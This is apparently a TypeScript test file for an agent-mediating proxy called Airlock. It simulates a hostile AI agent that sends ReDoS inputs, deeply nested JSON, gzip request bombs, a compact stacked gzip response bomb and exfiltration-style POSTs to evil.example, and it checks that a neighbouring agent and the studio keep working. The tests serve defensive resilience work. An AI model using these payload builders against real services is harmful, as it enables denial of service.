// One agent cannot freeze or crash Airlock for everyone. `airlock start` runs as a child process
// with the default policy; a hostile agent throws at it, all at once:
//   - ReDoS-shaped input: a GraphQL document of one 900 KB name (a backtracking pattern over it
//     takes hours), hosts of thousands of dots;
//   - JSON of 1,000 duplicate keys nested 200,000 arrays deep (400 KB); 40 gzip request bodies of
//     12 KB that inflate to 8 MiB of tiny JSON objects each;
//   - a stream of denied requests with 1 MiB JSON bodies of small objects (each one's parsed
//     description is ~10x its size: the studio's live buffer must not keep them);
//   - a stacked gzip bomb (`gzip, gzip`, 1 GiB of zeros in a few KiB) from a host that got a
//     credential, read slowly;
//   - 48 held uploads of 1 MiB each;
// while a neighbour agent's requests, its held request and the studio (REST and WebSocket) must
// keep answering within a generous bound (availability, not speed: N = 60 s on a loaded 2-core
// box), and the process must stay alive with its resident memory under 1.5 GiB (docs/approvals.md).
import { spawn } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import zlib from 'node:zlib';
import t, { type Test } from 'tap';
import fc from 'fast-check';
import WebSocket from 'ws';
import { MysqlReader } from '../../describe/tunnel-mysql.ts';
import { MongoReader } from '../../describe/tunnel-mongo.ts';
import { RedisReader } from '../../describe/tunnel-redis.ts';
import { AnswerTunnels } from '../../proxy/body-tunnels.ts';
import { wsProtocols } from '../../studio/auth.ts';
import { AgentStore } from '../../state/agents.ts';
import { SecretStore } from '../../state/secrets/store.ts';
import { tempDir, upstreamCa, viaProxy, type Reply, type Upstream } from './helpers.ts';
import { upstreamOn443 } from './loopback-443.ts';

const BOUND_MS = 60_000;
t.setTimeout(420_000);
const RSS_BOUND = 1536 * 1024 * 1024;
const MASTER = '7b'.repeat(32);
process.env.AIRLOCK_MASTER_KEY ??= MASTER;
const TOKEN = `ghp_hostile_canary_${crypto.randomBytes(8).toString('hex')}`;
const cli = path.resolve(import.meta.dirname, '..', '..', 'bin', 'airlock.js');
const rego = path.resolve(import.meta.dirname, '..', '..', 'rego');

// A stacked bomb: 1 GiB of JSON whitespace, gzip, gzip → a few KiB. (Zeros would be refused at
// once as NUL bytes in a JSON body; spaces pass the sniff and meet the inflate cap.) Built without
// compressing 1 GiB: each 4 MiB block is deflated on its own and ends in a full flush, so one
// block's bytes repeated are a valid stream.
const spaces = Buffer.alloc(4 * 1024 * 1024, 0x20);
const BLOCKS = 256;
const block = zlib.deflateRawSync(spaces, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
let crc = 0;
for (let i = 0; i < BLOCKS; i++) crc = zlib.crc32(spaces, crc);
const gzipTrailer = Buffer.alloc(8);
gzipTrailer.writeUInt32LE(crc >>> 0, 0);
gzipTrailer.writeUInt32LE((BLOCKS * spaces.length) >>> 0, 4);
const gzipHeader = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
const inner = Buffer.concat([gzipHeader, ...Array<Buffer>(BLOCKS).fill(block), zlib.deflateRawSync(Buffer.alloc(0)), gzipTrailer]);
const bomb = zlib.gzipSync(inner, { level: 9 });

const ca = await upstreamCa(t);
const origin = await upstreamOn443(t, {
  tlsCa: ca,
  handler: (req, res) => {
    if (req.url === '/repos/acme/bomb') {
      res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip, gzip' });
      res.end(bomb);
      return;
    }
    res.setHeader('content-type', 'application/json');
    res.end(JSON.stringify({ ok: true, url: req.url }));
  },
});

if (!origin) {
  t.pass('skipped: binding port 443 on a loopback address needs root');
} else {
  // One subtest holds the whole scenario (its setup awaits for a while; tap's root must not end meanwhile).
  t.test('a hostile agent and its neighbour on one airlock start', async (t) => hostileScenario(t, origin));
}

async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
  const home = tempDir(t, 'airlock-hostile-');
  const agents = await AgentStore.open(home);
  const hostile = await agents.add('hostile');
  const neighbour = await agents.add('neighbour');
  const store = await SecretStore.open(home);
  await store.set('github_token', TOKEN);
  const auth = (name: string, token: string): string => `Basic ${Buffer.from(`${name}:${token}`).toString('base64')}`;
  const H = auth('hostile', hostile.token);
  const N = auth('neighbour', neighbour.token);

  const child = spawn(process.execPath, [cli, 'start', '--home', home, '--policy', rego, '--proxy', '127.0.0.1:0', '--studio', '127.0.0.1:0', '--quiet',
    '--resolve', `api.github.com=${origin.host}`, '--resolve', `evil.example=${origin.host}`, '--allow-private', `${origin.host}:443`, '--upstream-ca', ca.files.cert],
  { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, AIRLOCK_MASTER_KEY: process.env.AIRLOCK_MASTER_KEY } });
  let out = '';
  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr.on('data', (d: Buffer) => (out += d.toString()));
  t.teardown(() => { if (child.exitCode === null) child.kill('SIGKILL'); });
  const port = await new Promise<number>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`airlock start did not come up: ${out}`)), 60_000);
    const look = (): void => {
      const m = /proxy on http:\/\/127\.0\.0\.1:(\d+)/.exec(out);
      if (m) {
        clearTimeout(timer);
        resolve(Number(m[1]));
      }
    };
    child.stdout.on('data', look);
  });
  const info = JSON.parse(fs.readFileSync(path.join(home, 'runtime.json'), 'utf8')) as { studio: string };
  const studio = `http://${info.studio}`;

  let maxRss = 0;
  const rss = (): number => Number(/VmRSS:\s+(\d+) kB/.exec(fs.readFileSync(`/proc/${child.pid}/status`, 'utf8'))?.[1] ?? 0) * 1024;
  const sampler = setInterval(() => { try { maxRss = Math.max(maxRss, rss()); } catch { /* exited */ } }, 200);
  t.teardown(() => clearInterval(sampler));

  /** A neighbour's request through the proxy, bounded by BOUND_MS (not viaProxy's 10 s: a loaded box may be slow). */
  const ask = (url: string, opts: { method?: string; body?: string } = {}): Promise<Reply> => new Promise((resolve) => {
    const body = opts.body === undefined ? undefined : Buffer.from(opts.body);
    const req = http.request({ host: '127.0.0.1', port, method: opts.method ?? 'GET', path: url, agent: false, setHost: false,
      headers: { host: new URL(url).host, 'proxy-authorization': N, ...(body ? { 'content-type': 'application/json', 'content-length': body.length } : {}) } });
    req.setTimeout(BOUND_MS, () => req.destroy(new Error('no answer')));
    req.on('error', (e) => resolve({ status: 0, headers: {}, body: e.message }));
    req.on('response', (res) => {
      const parts: Buffer[] = [];
      res.on('data', (c: Buffer) => parts.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(parts).toString() }));
    });
    req.end(body);
  });

  /** `p`, or a failure after BOUND_MS: "still answers within N seconds". */
  const within = <T>(what: string, p: Promise<T>): Promise<T> => new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`${what}: no answer within ${BOUND_MS / 1000} s`)), BOUND_MS);
    p.then((v) => { clearTimeout(timer); resolve(v); }, (e: unknown) => { clearTimeout(timer); reject(e as Error); });
  });

  // The studio: log in, open the WebSocket.
  const studioToken = fs.readFileSync(path.join(home, 'studio-token'), 'utf8').trim();
  const login = await fetch(`${studio}/api/login`, { method: 'POST', headers: { 'content-type': 'application/json', origin: studio }, body: JSON.stringify({ token: studioToken }) });
  t.equal(login.status, 200, 'studio login');
  const cookie = String(login.headers.get('set-cookie')).split(';')[0]!;
  const csrf = ((await login.json()) as { csrf: string }).csrf;
  const studioGet = async (p: string): Promise<number> => (await fetch(`${studio}${p}`, { headers: { cookie, origin: studio, 'x-airlock-csrf': csrf } })).status;
  const ws = new WebSocket(`${studio.replace('http', 'ws')}/api/ws`, wsProtocols(csrf), { headers: { origin: studio, cookie } });
  const events: Array<{ type: string; data: unknown }> = [];
  let wsBytes = 0;
  ws.on('message', (m: Buffer) => {
    wsBytes += m.length;
    events.push(JSON.parse(m.toString()) as { type: string; data: unknown });
  });
  await within('studio WebSocket', new Promise((resolve, reject) => { ws.once('open', resolve); ws.once('error', reject); }));
  t.teardown(() => ws.terminate());

  // ─── the hostile agent ──────────────────────────────────────────────────────────────────────
  const open = new Set<http.ClientRequest>();
  const statuses = new Map<number, number>();
  t.teardown(() => { for (const r of open) r.destroy(); });
  /** A request the hostile agent fires and forgets (held ones stay open until the end). */
  const fire = (url: string, opts: { method?: string; body?: Buffer; headers?: Record<string, string>; onResponse?: (res: http.IncomingMessage) => void } = {}): void => {
    const req = http.request({ host: '127.0.0.1', port, method: opts.method ?? 'GET', path: url, agent: false, setHost: false,
      headers: { host: new URL(url).host, 'proxy-authorization': H, ...(opts.body ? { 'content-type': 'application/json', 'content-length': opts.body.length } : {}), ...opts.headers } });
    open.add(req);
    // A connection Airlock closes on a body it refuses mid-upload (the captured bodies' crowd bound:
    // 429, then closed) may reach the client as a reset before the answer: counted as refused too.
    let answered = false;
    req.on('error', () => { if (!answered) statuses.set(0, (statuses.get(0) ?? 0) + 1); });
    req.on('close', () => open.delete(req));
    req.on('response', (res) => {
      answered = true;
      statuses.set(res.statusCode ?? 0, (statuses.get(res.statusCode ?? 0) ?? 0) + 1);
      if (opts.onResponse) opts.onResponse(res);
      else res.resume();
    });
    req.end(opts.body);
  };
  const smallObjects = (n: number): Buffer => Buffer.from(JSON.stringify({ rows: Array.from({ length: n }, (_, i) => ({ i })) }));
  const upload = smallObjects(85_000); // just under the 1 MiB capture cap: parsed whole
  const redos = Buffer.from(JSON.stringify({ query: `mutation { ${'a'.repeat(900_000)} }` }));
  // 400 KB: 1,000 duplicate keys under 200,000 nested arrays (a full path per duplicate was ~10^9 parts).
  // 12 KB of gzip that inflates to 8 MiB of tiny JSON objects (a request body bomb).
  const gzipBody = zlib.gzipSync(`[${Array.from({ length: 1_040_000 }, () => '{"a":1}').join(',')}]`, { level: 9 });
  const deepDuplicates = Buffer.from(`${'['.repeat(200_000)}{${Array.from({ length: 1000 }, () => '"a":1').join(',')}}${']'.repeat(200_000)}`);

  let bombBytes = 0;
  let bombEnded = '';
  let bombStatus = 0;
  let bombText = '';
  const hostileDone = (async () => {
    // The response bomb first, and the storm only once its head is back: decided before the
    // storm's own records fill this agent's share of the audit backlog (past it the agent's
    // requests get 503, the design; fired first but still in its TLS handshake, a loaded run's
    // bomb met that 503). Its slow reading still overlaps the storm.
    let answered: () => void = () => undefined;
    const bombAnswered = new Promise<void>((resolve) => (answered = resolve));
    fire('https://api.github.com/repos/acme/bomb', {
      onResponse: (res) => {
        bombStatus = res.statusCode ?? 0;
        answered();
        res.pause(); // a slow reader: Airlock must not inflate ahead of it
        setTimeout(() => {
          res.on('data', (d: Buffer) => {
            bombBytes += d.length;
            if (bombStatus !== 200) bombText += d.toString();
          });
          res.on('end', () => (bombEnded = 'end'));
          res.on('error', () => (bombEnded = 'error'));
          res.on('aborted', () => (bombEnded = 'aborted'));
          res.on('close', () => (bombEnded ||= 'close'));
          res.resume();
        }, 4000);
      },
    });
    await Promise.race([bombAnswered, new Promise((r) => setTimeout(r, 15_000))]);
    for (let i = 0; i < 3; i++) fire('https://api.github.com/graphql', { method: 'POST', body: redos });
    fire(`https://a${'.'.repeat(3000)}b.example/`);
    for (let i = 0; i < 2; i++) fire('https://evil.example/collect', { method: 'POST', body: deepDuplicates });
    for (let i = 0; i < 16; i++) fire('https://evil.example/collect', { method: 'POST', body: gzipBody, headers: { 'content-encoding': 'gzip' } });
    for (let i = 0; i < 48; i++) fire('https://api.github.com/repos/acme/app/issues', { method: 'POST', body: upload });
    // Denied requests with large bodies, two at a time.
    const denied = async (): Promise<void> => {
      for (let i = 0; i < 35; i++) await viaProxy(port, 'https://evil.example/collect', { auth: H, method: 'POST', headers: { 'content-type': 'application/json' }, body: upload }).catch(() => undefined);
    };
    await Promise.all([denied(), denied()]);
  })();

  // ─── the neighbour, meanwhile ───────────────────────────────────────────────────────────────
  t.test('the neighbour\'s requests and the studio keep answering', async (t) => {
    for (let round = 0; round < 4; round++) {
      await new Promise((r) => setTimeout(r, 1500));
      let r = await within(`neighbour read #${round}`, ask('https://api.github.com/repos/acme/app'));
      // On a machine this loaded (other test files run beside this one) a policy evaluation can
      // exceed its 1 s budget and fail closed; that is a deny, not a stall: ask once more.
      if (r.status === 403 && r.body.includes('fail_closed.timeout')) {
        t.comment(`neighbour read #${round}: the evaluation timed out under load (fail closed); asking again`);
        r = await within(`neighbour read #${round} (again)`, ask('https://api.github.com/repos/acme/app'));
      }
      t.equal(r.status, 200, `neighbour read #${round} answered${r.status === 200 ? "" : `: ${r.body.slice(0, 300)}`}`);
      t.equal(await within('studio status', studioGet('/api/status')), 200, 'studio REST answers');
      t.equal(await within('studio approvals', studioGet('/api/approvals')), 200, 'studio approvals list answers');
    }
  });

  t.test('the neighbour\'s held request is approved in the studio and goes through', async (t) => {
    const held = ask('https://api.github.com/repos/acme/app/issues', { method: 'POST', body: '{"title":"hello"}' });
    const id = await within('the neighbour\'s approval appears on the WebSocket', (async () => {
      for (;;) {
        const e = events.find((x) => x.type === 'approval' && (x.data as { approval?: { agent?: string; status?: string } }).approval?.agent === 'neighbour');
        if (e) return (e.data as { approval: { id: string } }).approval.id;
        await new Promise((r) => setTimeout(r, 100));
      }
    })());
    const approve = await within('approve over REST', fetch(`${studio}/api/approvals/${id}/approve`, { method: 'POST', headers: { cookie, origin: studio, 'x-airlock-csrf': csrf, 'content-type': 'application/json' }, body: '{}' }));
    t.equal(approve.status, 200, 'approved');
    t.equal((await within('the held request', held)).status, 200, 'the neighbour\'s held request went through');
  });

  t.test('after the storm: alive, bounded, and every attack met its limit', async (t) => {
    // The bound's timer is cleared once the storm ends: a pending one kept this file's process up for minutes.
    let bound: NodeJS.Timeout | undefined;
    await Promise.race([hostileDone, new Promise((r) => { bound = setTimeout(r, 4 * BOUND_MS); })]);
    clearTimeout(bound);
    // The bomb reader has had its turn: its stream is cut once it read what Airlock lets through (at most 15 s).
    for (let i = 0; i < 300 && !bombEnded; i++) await new Promise((r) => setTimeout(r, 50));
    t.equal(child.exitCode, null, 'the process is alive');
    maxRss = Math.max(maxRss, rss());
    t.ok(maxRss < RSS_BOUND, `resident memory stayed under ${RSS_BOUND >> 20} MiB (peak ${Math.round(maxRss / 1048576)} MiB)`);
    t.equal(bombStatus, 200, `the bomb's head was relayed (the credential was injected, the body is decoded to scrub it) ${bombText.slice(0, 300)}`);
    t.ok(bombBytes < 8 * 1024 * 1024, `the bomb reader got only the start (${bombBytes} bytes), then the stream was cut (${bombEnded || 'still open'})`);
    const r = await within('neighbour read', ask('https://api.github.com/repos/acme/app'));
    t.equal(r.status, 200, 'the neighbour is still served');
    const approvals = (await (await fetch(`${studio}/api/approvals?status=pending`, { headers: { cookie, origin: studio, 'x-airlock-csrf': csrf } })).json()) as { approvals: Array<{ agent: string }> };
    const heldByHostile = approvals.approvals.filter((a) => a.agent === 'hostile').length;
    t.ok(heldByHostile > 0 && heldByHostile < 30, `held uploads were capped by the held-data budget (${heldByHostile} pending for the hostile agent)`);
    const refused = (statuses.get(429) ?? 0) + (statuses.get(0) ?? 0);
    t.ok(refused >= 20, `the rest were refused at once (${refused}: 429 approvals-backlog or agent-busy, or the upload's connection closed; all answers: ${JSON.stringify([...statuses])})`);
    t.ok(wsBytes < 64 * 1024 * 1024, `the studio's WebSocket carried bounded records (${Math.round(wsBytes / 1024)} KiB)`);
    const audit = fs.readFileSync(path.join(home, 'audit.jsonl'), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as { url?: string; outcome: string; extra?: Record<string, unknown> });
    const bombRecord = audit.find((a) => a.url?.endsWith('/repos/acme/bomb'));
    t.match(bombRecord?.extra, { response_cut: /200x/ }, 'the cut bomb is in the audit log with its reason');
    t.ok(audit.filter((a) => a.url === 'https://evil.example/collect' && a.outcome === 'denied').length >= 50, 'the denied stream was decided and audited');
  });
}

t.test('twenty-fifth pass: a database command sent in small reads is read in linear time', async (t) => {
  // A tunnel reader keeps what is not whole yet. It copied all it kept per read (a MySQL packet,
  // a MongoDB message: 1 MiB sent 16 bytes at a time cost ~4.5 s of the main thread), and the
  // Redis reader read a command again from its start per read (8,000 arguments of 100 bytes sent
  // 64 bytes at a time: 30 s). One agent's tunnel took that from every agent.
  const mysqlPacket = (seq: number, payload: Buffer): Buffer => {
    const head = Buffer.alloc(4);
    head.writeUIntLE(payload.length, 0, 3);
    head[3] = seq;
    return Buffer.concat([head, payload]);
  };
  const login = Buffer.alloc(40);
  login.writeUInt32LE(0x8200, 0); // PROTOCOL_41 | SECURE_CONNECTION
  login[8] = 255; // utf8mb4
  const mysql = (sql: string): Buffer => Buffer.concat([mysqlPacket(1, login), mysqlPacket(0, Buffer.concat([Buffer.from([0x03]), Buffer.from(sql)]))]);
  const redis = (args: string[]): Buffer => Buffer.from(`*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`);
  // BSON of strings, lists and documents (what the command needs).
  const bson = (doc: Record<string, unknown>): Buffer => {
    const parts = Object.entries(doc).map(([k, v]) => {
      const name = Buffer.from(`${k}\0`);
      if (typeof v === 'string') {
        const text = Buffer.from(`${v}\0`);
        const len = Buffer.alloc(4);
        len.writeInt32LE(text.length);
        return Buffer.concat([Buffer.from([0x02]), name, len, text]);
      }
      return Buffer.concat([Buffer.from([Array.isArray(v) ? 0x04 : 0x03]), name, bson({ ...(v as Record<string, unknown>) })]);
    });
    const body = Buffer.concat([...parts, Buffer.from([0])]);
    const len = Buffer.alloc(4);
    len.writeInt32LE(body.length + 4);
    return Buffer.concat([len, body]);
  };
  const mongoMsg = (doc: Record<string, unknown>): Buffer => {
    const body = bson(doc);
    const head = Buffer.alloc(21);
    head.writeInt32LE(21 + body.length, 0);
    head.writeInt32LE(1, 4);
    head.writeInt32LE(2013, 12); // OP_MSG, flags 0, section kind 0
    return Buffer.concat([head, body]);
  };
  type Reader = { read(b: Buffer): { statements: unknown[]; refused?: string } };
  const readAll = (reader: Reader, bytes: Buffer, cuts: number[]): { statements: unknown[]; refused?: string } => {
    const statements: unknown[] = [];
    let from = 0;
    for (const to of [...cuts.filter((c) => c > 0 && c < bytes.length).sort((a, b) => a - b), bytes.length]) {
      const r = reader.read(bytes.subarray(from, to));
      statements.push(...r.statements);
      if (r.refused) return { statements, refused: r.refused };
      from = to;
    }
    return { statements };
  };
  const cases: Array<[string, () => Reader, Buffer, number]> = [
    ['MySQL COM_QUERY of 512 KiB', () => new MysqlReader(), mysql(`INSERT INTO t VALUES ('${'x'.repeat(512 * 1024)}')`), 16],
    ['Redis SET of 4,000 arguments', () => new RedisReader(1024 * 1024), redis(['RPUSH', 'k', ...Array.from({ length: 4000 }, (_, i) => `${i}`.padEnd(100, 'v'))]), 64],
    ['MongoDB insert of 512 KiB', () => new MongoReader(1024 * 1024), mongoMsg({ insert: 'users', documents: [{ v: 'x'.repeat(512 * 1024) }], $db: 'app' }), 16],
  ];
  for (const [name, make, bytes, step] of cases) {
    const whole = make().read(bytes);
    const before = process.cpuUsage();
    const pieces = readAll(make(), bytes, Array.from({ length: Math.floor(bytes.length / step) }, (_, i) => (i + 1) * step));
    const spent = process.cpuUsage(before);
    const ms = (spent.user + spent.system) / 1000;
    t.same(pieces, whole, `${name}: read ${step} bytes at a time, the same as whole (${whole.statements.length} statements${whole.refused ? `, refused: ${whole.refused}` : ''})`);
    t.ok(ms < 500, `${name}: ${bytes.length} bytes in ${step}-byte reads cost ${Math.round(ms)} ms of CPU (seconds before)`);
  }
  // Wherever the reads cut a stream of commands, the statements are those of the whole stream.
  const stream = (parts: Array<[string, string]>): [Buffer, Buffer] => [
    Buffer.concat([mysqlPacket(1, login), ...parts.map(([, v]) => mysqlPacket(0, Buffer.concat([Buffer.from([0x03]), Buffer.from(`UPDATE t SET v = '${v}'`)])))]),
    Buffer.concat(parts.map(([k, v]) => (k === 'inline' ? Buffer.from(`SET k "${v}"\r\n`) : redis(['SET', 'k', v])))),
  ];
  fc.assert(fc.property(fc.array(fc.tuple(fc.constantFrom('inline', 'bulk'), fc.string({ unit: fc.constantFrom('a', 'é', ' ', '\r', '$', '*', '1'), maxLength: 12 })), { minLength: 1, maxLength: 5 }), fc.array(fc.nat(400), { maxLength: 12 }), (parts, cuts) => {
    const [my, rd] = stream(parts);
    return JSON.stringify(readAll(new MysqlReader(), my, cuts)) === JSON.stringify(new MysqlReader().read(my))
      && JSON.stringify(readAll(new RedisReader(4096), rd, cuts)) === JSON.stringify(new RedisReader(4096).read(rd));
  }), { numRuns: 40 });
});

t.test('twenty-eighth pass: an agent cannot drop its own tunnel mark by having more destinations marked, nor mark one for another', async (t) => {
  // Each agent's destinations whose answers opened another protocol's session (AnswerTunnels) are
  // refused to it for ten minutes; past 64 the oldest mark was dropped, so an agent that had 64
  // servers of its own answer with an SMTP banner tunnelled through the first again.
  const tunnels = new AnswerTunnels();
  const banner = Buffer.from('220 mx.example.net ESMTP Postfix\r\n');
  const marked = (agent: string, destination: string): boolean => tunnels.watch(agent, destination, { method: 'POST', url: `${destination}/t`, bodyLength: 12 }, [['content-type', 'application/octet-stream']])?.chunk(banner) !== undefined;
  t.ok(marked('bot', 'http://first.example'), 'an SMTP banner in an answer marks its destination');
  for (let i = 0; i < 100; i++) marked('bot', `http://own${i}.example`);
  t.ok(tunnels.refused('bot', 'http://first.example'), 'after 100 more destinations marked, the first is still refused to the agent');
  t.notOk(tunnels.refused('neighbour', 'http://first.example'), 'and to no other agent');
  t.ok(marked('other', 'http://a.example') && tunnels.refused('other', 'http://a.example'), 'control: another agent\'s mark');
  t.notOk(tunnels.refused('other', 'http://b.example'), 'control: a few marks refuse only their destinations');
});
